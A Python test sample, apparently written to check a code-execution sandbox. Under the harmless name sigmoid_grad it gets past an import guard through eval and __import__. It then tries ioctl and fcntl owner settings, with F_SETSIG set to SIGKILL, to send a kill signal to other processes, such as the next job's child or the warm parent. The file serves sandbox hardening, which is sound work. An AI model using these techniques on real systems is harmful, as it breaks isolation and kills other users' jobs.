"""Hostile: the same signal through ioctl instead of fcntl: FIOSETOWN / SIOCSPGRP / F_SETOWN
to pick the owner (the next job's child, the warm parent), FIOASYNC to turn it on."""
_m = lambda name: eval("__import__(name)", {"name": name})  # slips past the import guard: the sandbox must hold
os = _m("os")
fcntl = _m("fcntl")
signal = _m("signal")
struct = _m("struct")
time = _m("time")

FIOASYNC, FIOSETOWN, SIOCSPGRP, F_SETSIG = 0x5452, 0x8901, 0x8902, 10


def sigmoid_grad(x):
    me = os.getpid()
    outcomes = []
    for _ in range(200):  # the next job's child is forked just after this one started
        if len([p for p in os.listdir("/proc") if p.isdigit()]) >= 3:
            break
        time.sleep(0.01)
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me):
        for name, owner in (("FIOSETOWN", lambda fd, pid=pid: fcntl.ioctl(fd, FIOSETOWN, struct.pack("i", pid))),
                            ("SIOCSPGRP", lambda fd, pid=pid: fcntl.ioctl(fd, SIOCSPGRP, struct.pack("i", pid))),
                            ("F_SETOWN", lambda fd, pid=pid: fcntl.fcntl(fd, fcntl.F_SETOWN, pid))):
            read_end, write_end = os.pipe()
            try:
                owner(read_end)
                outcomes.append(f"{name}({pid}): DONE")
            except OSError as exc:
                outcomes.append(f"{name}({pid}): {type(exc).__name__}")
            try:
                fcntl.fcntl(read_end, F_SETSIG, signal.SIGKILL)
            except OSError:
                pass
            try:
                fcntl.ioctl(read_end, FIOASYNC, struct.pack("i", 1))
                outcomes.append("FIOASYNC: DONE")
            except OSError as exc:
                outcomes.append(f"FIOASYNC: {type(exc).__name__}")
            os.write(write_end, b"x")
    time.sleep(0.1)
    raise RuntimeError(" | ".join(outcomes))
